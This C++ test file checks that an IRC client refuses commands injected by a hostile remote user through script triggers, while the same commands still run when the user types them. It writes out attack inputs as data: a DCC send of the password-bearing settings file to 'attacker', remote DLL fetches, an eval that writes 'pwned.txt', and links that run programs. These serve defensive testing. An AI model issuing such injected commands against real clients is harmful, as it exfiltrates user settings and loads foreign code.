// Text from outside runs nothing the user did not write. A hostile user says a line of every row
// of the command table to an ordinary echo trigger, through the server-line path: the rows that
// may not run for such text only say so, and nothing is started, written, fetched or sent; the
// others run without doing any of that. Typed, the refused rows do their work.
#include "tests/commands/command_test_fixture.h"

#include "commands/command_table.h"
#include "commands/plugin_host.h"
#include "common/data_folders.h"
#include "core/client_services.h"
#include "core/debug_level.h"
#include "core/script_variable.h"
#include "core/frame_message_ids.h"
#include "core/user_lists.h"
#include "script/script_interpreter.h"
#include "script/script_variables.h"
#include "tests/common/test_paths.h"
#include "tests/recorders/recorders.h"
#include "tests/support/python_http_server.h"
#include "tests/support/test_files.h"
#include "xml/config_documents.h"
#include "xml/xml_document.h"
#include "xml/xml_element.h"
#include "xml/xml_writer.h"

#include <algorithm>
#include <set>
#include <string>
#include <vector>

namespace {

using Lines = std::vector<std::string>;

// What the refused rows could leave behind.
struct World {
    std::string Files;    // every file of the program folder with its bytes
    std::string Settings; // the user's settings as they would be written
    std::vector<std::wstring> Plugins;
    uint32_t Loaded = 0;
    uint32_t Debug = 0;
    size_t Outward = 0; // DCC chats, object offers and fetches, file dialogs, the settings window
    bool operator==(const World&) const = default;
};

size_t RefusalsPrinted(const std::string& word = {}) {
    size_t count = 0;
    for (const RecordedCall& call : CallLog::Instance().Calls("PrintToWindow"))
        if (call.Text.find(word + " was not run: \"") != std::string::npos) ++count;
    return count;
}

std::string Slashed(std::string path) {
    std::replace(path.begin(), path.end(), '\\', '/');
    return path;
}

// The program folder is the user's data folder too, as in the portable layout: the stand-in
// transfer program, files to offer, encrypt and install, and the echo trigger of the settings.
class TextFromOutside : public CommandTest {
protected:
    void SetUp() override {
        CommandTest::SetUp();
        UseSettings(
            "<qv><Cfg><Lan_Options Use_Upnp=\"0\"/></Cfg><Scripts><s name=\"echo\" Trigger_Type=\"1\" "
            "Enabled=\"1\" Trigger=\"*PRIVMSG #a :!say *\"><![CDATA[/say #a $4*\r\n/raw DONE]]></s>"
            "<s name=\"forward\" Trigger_Type=\"1\" Enabled=\"1\" Trigger=\"*PRIVMSG #a :!do *\">"
            "<![CDATA[$4*\r\n/raw DONE]]></s><s name=\"own\" Trigger_Type=\"1\" Enabled=\"1\" "
            "Trigger=\"*PRIVMSG #a :!own *\"><![CDATA[/raw DONE]]></s></Scripts></qv>");
        Services().Scripts.ExecuteScript = &script::ExecuteScript;
        saved_ = {ProgramFolder, UserDataFolder};
        ProgramFolder = UserDataFolder = folder_.Path();
        ASSERT_TRUE(CopyFileW(BesideTestProgram(L"program_recorder.exe").c_str(),
                              folder_.File(L"qx.exe").c_str(), FALSE));
        ASSERT_TRUE(WriteFileBytes(folder_.File(L"a.txt"), "hello"));
        ASSERT_TRUE(WriteFileBytes(folder_.File(L"qv.xml"), "<qv><Cfg Password=\"secret\"/></qv>"));
        ASSERT_TRUE(
            WriteFileBytes(folder_.File(L"skin.xml"), "<qv><Cfg><Colors BG_Color=\"255\"/></Cfg></qv>"));
        ASSERT_TRUE(WriteFileBytes(
            folder_.File(L"scripts.xml"),
            "<scripts><s name=\"got\" Description=\"Got\"><![CDATA[/msg #a x]]></s></scripts>"));
        for (const char* phase : {"hostile", "typed", "own"})
            ASSERT_TRUE(
                WriteFileBytes(folder_.File((NarrowToWide(phase) + L".scr").c_str()),
                               "$r = AppendText(\"" + Slashed(Path(phase)) + "-runscript.txt\", ran)"));
        ASSERT_TRUE(http_.WaitReady());
        ASSERT_TRUE(http_.Serve(L"x.dll", "MZ not a library"));
    }
    void TearDown() override {
        UnloadPlugins(0xFFFFFFFF);
        SetPluginPaths({});
        RemoveUserListEntry(kIgnoreList, "typed!*@*");
        RemoveUserListEntry(kIgnoreList, "own!*@*");
        DebugLevel = 0;
        InstallScriptRunRecorder();
        ProgramFolder = saved_[0];
        UserDataFolder = saved_[1];
        CommandTest::TearDown();
    }

    std::string Path(const std::string& name) const { return WideToNarrow(folder_.Path()) + "\\" + name; }

    // A line of every row, as a hostile user would say it and as the user would type it; the
    // phase names what it would leave behind.
    std::vector<std::string> RowLines(const std::string& p) const {
        const std::string url = WideToNarrow(http_.Url(L"x.dll"));
        return {
            "/eval AppendText(\"" + Slashed(Path(p)) + "-eval.txt\",pwned)",
            "/prefix +~",
            "/emulateserver :x!y@z NOTICE me :hi",
            "/run " + Path("qx.exe") + "," + p,
            "/shellexecute open " + Path("qx.exe") + "," + p,
            "/fetch " + url + " " + Path(p + "-x.dll"),
            "/names",
            "/disconnect",
            "/reconnect",
            "/server",
            "/font",
            "/color",
            "/quit bye",
            "/away back later",
            "/join #b",
            "/invite bob",
            "/topic",
            "/kick bob",
            "/me waves",
            "/dccmsg peer hi",
            "/msg #a hi",
            "/sound ding.wav",
            "/ctcp bob VERSION",
            "/ctcpreply bob VERSION x",
            "/part #a bye",
            "/timer t1 1 60000 /msg #a later",
            "/play song.wav",
            "/clear",
            "/destroystaticvariable x",
            "/destroyglobalvariable x",
            "/runscript " + Path(p + ".scr"),
            "/raw PRIVMSG #a :raw",
            "/setuserlevel bob 5",
            "/define x 1",
            "/undefine x",
            "/protect " + Path("a.txt") + " " + Path(p + "-locked.bin") + " pass",
            "/loadplugins",
            "/unloadplugins",
            "/deprotect " + Path(p + "-locked.bin") + " " + Path(p + "-back.txt") + " pass",
            "/wallv #a hi",
            "/opnotice hi",
            "/awin hi all",
            "/display #a hi",
            "/sendobjectkill 1 2",
            "/getobject 127.0.0.1 4000 5 " + p + "-object.txt 1",
            "/sendobject #a " + Path("a.txt"),
            "/installscript " + Path("scripts.xml"),
            "/installskin " + Path("skin.xml"),
            "/encoding 65001",
            "/utf8 on",
            "/lag",
            "/debug 1",
            "/prefs Cfg\\Options1 Default_Nick " + p,
            "/query carol",
            "/ignore +" + p + "!*@*",
            "/plugin +" + Path(p + ".dll"),
            "/send attacker " + Path("qv.xml"),
            "/dns 127.0.0.1",
            "/tchat 5000",
            "/chat bob",
            "/dcc bob chat",
            "/_set ip 10.0.0.1",
            "/_script " + p + "|||0|||0|||/x|||||||||0|||0|||/msg #a x",
        };
    }

    // The refused rows as the user's own trigger would write them: the user's words wherever a
    // row chooses what happens, and the received words ("!own #a own": $4 and $5) in the place of
    // a nick, a mask, a channel or a pass phrase, where the row takes one.
    std::vector<std::string> OwnLines() const {
        const std::string url = WideToNarrow(http_.Url(L"x.dll"));
        return {
            "/eval AppendText(\"" + Slashed(Path("own")) + "-eval.txt\",ran)",
            "/run " + Path("qx.exe") + ",own",
            "/shellexecute open " + Path("qx.exe") + ",own",
            "/fetch " + url + " " + Path("own-x.dll"),
            "/font",
            "/color",
            "/runscript " + Path("own.scr"),
            "/protect " + Path("a.txt") + " " + Path("own-locked.bin") + " $5",
            "/loadplugins",
            "/unloadplugins",
            "/deprotect " + Path("own-locked.bin") + " " + Path("own-back.txt") + " $5",
            "/sendobjectkill 1 2",
            "/getobject 127.0.0.1 4000 5 own-object.txt 1",
            "/sendobject $4 " + Path("a.txt"),
            "/installscript " + Path("scripts.xml"),
            "/installskin " + Path("skin.xml"),
            "/debug 1",
            "/prefs Cfg\\Options1 Default_Nick own",
            "/ignore +$5!*@*",
            "/plugin +" + Path("own.dll"),
            "/send $nick " + Path("qv.xml"),
            "/tchat 5000",
            "/chat $nick",
            "/dcc $nick chat",
            "/_script own|||0|||0|||/x|||||||||0|||0|||/msg #a x",
        };
    }

    // The user's own trigger runs the line for the next "!own" line.
    void SetOwnTrigger(const std::string& line) {
        XmlDocumentWriteLock lock(UserConfigDocument);
        XmlElement* scripts = XmlElementFindChild(XmlDocumentGetRoot(UserConfigDocument), "Scripts");
        for (uint32_t i = 0; i < XmlElementGetChildCount(scripts); ++i) {
            XmlElement* entry = XmlElementGetChild(scripts, i);
            if (XmlVariableGetValueString(XmlElementFindVariableView(entry, "name")) != "own") continue;
            XmlElementRemoveAllCData(entry);
            XmlElementAddCData(entry, (line + "\r\n/raw DONE").c_str());
        }
    }

    World Observe() {
        Pump();
        World world;
        std::vector<std::wstring> names = folder_.Entries();
        std::sort(names.begin(), names.end());
        for (const std::wstring& name : names)
            world.Files += WideToNarrow(name) + "=" + ReadFileBytes(folder_.File(name.c_str())) + "\n";
        std::string text(XmlDocumentGetExportSize(UserConfigDocument), '\0');
        XmlDocumentSave(UserConfigDocument, text.data(), 1, kXmlFormatMemory, nullptr, text.size());
        world.Settings = text.c_str();
        world.Plugins = PluginPaths();
        world.Loaded = LoadedPluginCount();
        world.Debug = DebugLevel.load();
        for (const RecordedCall& call : CallLog::Instance().Calls())
            if (call.Service == "ObjectAcceptThread" || call.Service == "ObjectReceiveThread" ||
                call.Service == "DccChatThread" || call.Service == "PromptSaveFileName" ||
                (call.Service == "FrameCommand" && call.Number == ID_PREFERENCES))
                ++world.Outward;
        return world;
    }

    // The server line from a hostile user; the lines the trigger ("!say" echoes, "!do" forwards
    // as a command) sent, up to its last one.
    Lines Said(const std::string& text, const std::string& trigger = "!say") {
        Irc().Send(":evil!e@example PRIVMSG #a :" + trigger + " " + text + "\r\n");
        Lines said;
        const ULONGLONG end = GetTickCount64() + 20000;
        while (GetTickCount64() < end) {
            Pump(); // the trigger's commands may wait on this thread's windows
            std::optional<std::string> line = Irc().ReadLine(50);
            if (!line) continue;
            if (*line == "DONE") return said;
            said.push_back(*line);
        }
        ADD_FAILURE() << "the echo trigger never finished " << text;
        return said;
    }

    TestFolder folder_{L"guard"};
    PythonHttpServer http_;

private:
    std::vector<std::wstring> saved_;
};

} // namespace

TEST_F(TextFromOutside, EveryRowSaidByAHostileUserDoesNothingItMayNotAndTypedDoesItsWork) {
    const std::span<const CommandRow> table = CommandRows();
    std::vector<std::string> lines = RowLines("hostile");
    // One line per row, in table order: a new row needs its line here.
    ASSERT_EQ(lines.size(), table.size());
    for (size_t i = 0; i < table.size(); ++i) {
        const std::string word = lines[i].substr(0, lines[i].find(' '));
        ASSERT_EQ(FindCommandRow(word), &table[i]) << lines[i];
    }

    CallLog::Instance().Clear();
    const World before = Observe();
    for (size_t i = 0; i < table.size(); ++i) {
        CallLog::Instance().Clear();
        const Lines said = Said(lines[i]);
        const std::string word = lines[i].substr(0, lines[i].find(' '));
        if (table[i].Remote == RemoteText::Refused) {
            EXPECT_EQ(RefusalsPrinted(word), 1u) << lines[i];
            EXPECT_EQ(said, Lines{}) << lines[i];
        } else {
            EXPECT_EQ(RefusalsPrinted(), 0u) << lines[i];
            for (const std::string& line : said)
                EXPECT_TRUE(line.find("\x01"
                                      "DCC") == std::string::npos &&
                            line.find("\x12\x07") == std::string::npos)
                    << lines[i] << " sent " << line;
        }
        EXPECT_TRUE(Observe() == before) << lines[i];
    }

    // Typed, the same rows run. The plug-in list holds one that loads.
    SetPluginPaths({BesideTestProgram(L"test_plugin_a.dll")});
    MessageBoxCloser closer; // "/installscript" tells of each script it installed
    lines = RowLines("typed");
    for (size_t i = 0; i < table.size(); ++i) {
        if (table[i].Remote != RemoteText::Refused) continue;
        CallLog::Instance().Clear();
        const World start = Observe();
        Type(Channel(), lines[i]);
        const bool sent = !ServerLines().empty();
        EXPECT_TRUE(PumpUntil(
            [&] {
                return sent || !(Observe() == start) || CountCalls("PrintToWindow") > 0 ||
                       CountCalls("OpenChatWindow") > 0 || CountCalls("FrameCommand") > 0;
            },
            20000))
            << lines[i];
        EXPECT_EQ(RefusalsPrinted(), 0u) << lines[i];
    }
    // What the hostile lines named never turned up later either.
    const World after = Observe();
    for (const std::wstring& name : folder_.Entries()) EXPECT_NE(name.rfind(L"hostile-", 0), 0u);
    EXPECT_EQ(ReadFileBytes(folder_.File(L"started.txt")).find("hostile"), std::string::npos);
    EXPECT_EQ(after.Settings.find("hostile"), std::string::npos);
}

// The user's own trigger, set off by a server line, runs each refused row when the user's words
// stand wherever the row chooses what happens, with the received word as data; the same word
// where the row chooses what happens is refused.
TEST_F(TextFromOutside, EveryRefusedRowRunsFromTheUsersOwnTriggerWithWordsFromOutsideAsData) {
    const std::span<const CommandRow> table = CommandRows();
    const std::vector<std::string> lines = OwnLines();
    std::vector<const CommandRow*> refused;
    for (const CommandRow& row : table)
        if (row.Remote == RemoteText::Refused) refused.push_back(&row);
    // One line per refused row, in table order.
    ASSERT_EQ(lines.size(), refused.size());
    SetPluginPaths({BesideTestProgram(L"test_plugin_a.dll")});
    MessageBoxCloser closer;
    for (size_t i = 0; i < refused.size(); ++i) {
        const std::string word = lines[i].substr(0, lines[i].find(' '));
        ASSERT_EQ(FindCommandRow(word), refused[i]) << lines[i];
        SetOwnTrigger(lines[i]);
        CallLog::Instance().Clear();
        const World start = Observe();
        const Lines said = Said("#a own", "!own");
        EXPECT_TRUE(PumpUntil(
            [&] {
                return !said.empty() || !(Observe() == start) || CountCalls("PrintToWindow") > 0 ||
                       CountCalls("OpenChatWindow") > 0 || CountCalls("FrameCommand") > 0;
            },
            20000))
            << lines[i];
        EXPECT_EQ(RefusalsPrinted(), 0u) << lines[i];
    }
    EXPECT_TRUE(FileExists(folder_.File(L"own-eval.txt")));
    EXPECT_NE(ReadFileBytes(folder_.File(L"started.txt")).find("own"), std::string::npos);

    // The received word where a row chooses what happens: a path, a program, the kind of offer.
    CallLog::Instance().Clear();
    for (const std::string& line : std::vector<std::string>{"/send $nick $4", "/run $4", "/dcc $nick $4"}) {
        SetOwnTrigger(line);
        EXPECT_EQ(Said(Path("a.txt"), "!own"), Lines{}) << line;
    }
    EXPECT_EQ(RefusalsPrinted("/send"), 1u);
    EXPECT_EQ(RefusalsPrinted("/run"), 1u);
    EXPECT_EQ(RefusalsPrinted("/dcc"), 1u);
}

// A hostile user's attack on an echo trigger: a library downloaded beside the program, the user's
// settings offered to the attacker, a file written by evaluated text, and a timer to download
// later. The trigger goes on echoing what is only text.
TEST_F(TextFromOutside, AnAttackThroughAnEchoTriggerRunsNothing) {
    const std::string pwned = Slashed(WideToNarrow(folder_.File(L"pwned.txt")));
    const std::string fetch = "/fetch " + WideToNarrow(http_.Url(L"x.dll")) + " " + Path("x.dll");
    for (const std::string& line : {fetch, "/send attacker " + Path("qv.xml"),
                                    "/eval AppendText(\"" + pwned + "\",pwned)", "/timer boom 1 1 " + fetch})
        EXPECT_EQ(Said(line), Lines{}) << line;
    EXPECT_EQ(Said("hello"), Lines{"PRIVMSG #a :hello"});

    EXPECT_EQ(RefusalsPrinted("/fetch"), 2u);
    EXPECT_EQ(RefusalsPrinted("/send"), 1u);
    EXPECT_EQ(RefusalsPrinted("/eval"), 1u);
    {
        ScriptScopesReadLock lock(ScriptScopesMutex());
        EXPECT_TRUE(Server()->Connection->Timers.empty());
    }
    // A download typed now lands; one the hostile line had started would have landed before it.
    Type(Channel(), "/fetch " + WideToNarrow(http_.Url(L"x.dll")) + " " + Path("typed.dll"));
    EXPECT_TRUE(WaitUntil([&] { return FileExists(folder_.File(L"typed.dll")); }, 20000));
    EXPECT_FALSE(FileExists(folder_.File(L"x.dll")));
    EXPECT_FALSE(FileExists(folder_.File(L"pwned.txt")));
    EXPECT_FALSE(FileExists(folder_.File(L"started.txt")));
    EXPECT_EQ(ServerLines(), Lines{}) << "no offer reached the attacker";
}

// A trigger whose body is the received text itself ("$4*") forwards it as a command: a row that may
// not run for text from outside does not, the others do, as with every line of that run. What the
// text names or calls is not read: it reads no file and no variable of the user's.
TEST_F(TextFromOutside, AForwardedCommandRunsAsItsRowDecides) {
    {
        ScriptScopesWriteLock lock(ScriptScopesMutex());
        ScriptVariableList locals;
        SetScriptVariable(locals, Server(), "$secret", "hunter2", 2);
    }
    EXPECT_EQ(Said("/run " + Path("qx.exe") + ",hostile", "!do"), Lines{});
    EXPECT_EQ(RefusalsPrinted("/run"), 1u);
    const std::string read = "fread(fopen(" + Slashed(Path("qv.xml")) + ", r), 100)";
    EXPECT_EQ(Said("/msg #a " + read + " $secret", "!do"), Lines{"PRIVMSG #a :" + read + " $secret"});
    EXPECT_EQ(Said("/quit bye", "!do"), Lines{"QUIT :bye"});
    EXPECT_FALSE(FileExists(folder_.File(L"started.txt")));
    ScriptScopesWriteLock lock(ScriptScopesMutex());
    GlobalScriptVariables.clear();
}

// Text printed for text from outside by the user's own commands carries no link that would run
// its command, unmarked, when clicked; typed, the user's own link stays.
TEST_F(TextFromOutside, PrintedTextFromOutsideHasNoLinks) {
    const std::string link = "\x18{Open|||/run calc}click\x18";
    auto printedLinks = [] {
        size_t links = 0;
        for (const RecordedCall& call : CallLog::Instance().Calls("PrintToWindow"))
            links += call.Text.find('\x18') != std::string::npos;
        return links;
    };
    CallLog::Instance().Clear();
    Said("/addtext #a " + link);
    Said("/msg #b " + link);
    EXPECT_GE(CountCalls("PrintToWindow"), 2u);
    EXPECT_EQ(printedLinks(), 0u);
    Type(Channel(), "/addtext #a " + link);
    EXPECT_EQ(printedLinks(), 1u);
}
